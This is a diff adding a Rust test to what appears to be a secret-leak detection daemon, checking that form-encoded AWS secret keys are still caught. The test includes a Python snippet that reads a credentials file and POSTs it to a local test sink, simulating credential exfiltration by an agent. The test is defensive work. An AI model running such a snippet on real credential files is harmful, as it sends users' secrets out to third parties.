@@ -622,6 +622,48 @@ assert r.status == 200, r.status
     d.assert_no_plaintext(&[&secret]);
 }
 
+/// An agent posts a credentials file as a form field (python `urlencode`): the AWS secret
+/// key goes out with its `/` and `+` as `%2F` and `%2B`, and `=` as `%3D`. It is found as
+/// itself: the rule and fingerprint it has anywhere else.
+#[test]
+fn write_form_encoded_secret_is_found_as_itself() {
+    let mut d = Daemon::start("w-form");
+    let sink = HttpSink::start();
+    let (id, _) = secret("aws-access-key-id");
+    let (key, _) = std::iter::repeat_with(|| secret("aws-secret-access-key"))
+        .find(|(k, _)| k.contains('/') && k.contains('+'))
+        .unwrap();
+    let fp = fingerprint(&key);
+    let creds = keyfile(
+        &d.scratch(),
+        "credentials",
+        &format!("[default]\naws_access_key_id = {id}\naws_secret_access_key = {key}\n"),
+    );
+    let script = r#"
+import sys, urllib.parse, urllib.request
+body = urllib.parse.urlencode({"note": open(sys.argv[1]).read()}).encode()
+urllib.request.urlopen(urllib.request.Request(sys.argv[2], data=body), timeout=10).read()
+"#;
+    let mut c = python()
+        .arg("-c")
+        .arg(script)
+        .arg(&creds)
+        .arg(sink.url())
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "python").success());
+    sink.wait_request("the form POST", |r| contains(r, b"%2F"));
+    let a = wait_finding(&d, &fp, "socket", "the form-encoded secret key", |a| {
+        n(a, "pid") == pid as u64
+    });
+    check(&a, &key, "aws-secret-access-key", "socket", pid, "python3");
+    assert_eq!(s(&a, "remote"), sink.addr(), "{a:#}");
+    let encoded = key.replace('/', "%2F").replace('+', "%2B");
+    d.stop();
+    d.assert_no_plaintext(&[&key, &encoded, &id]);
+}
+
 #[test]
 fn write_curl_bearer_header_to_socket() {
     let mut d = Daemon::start("w-curl");
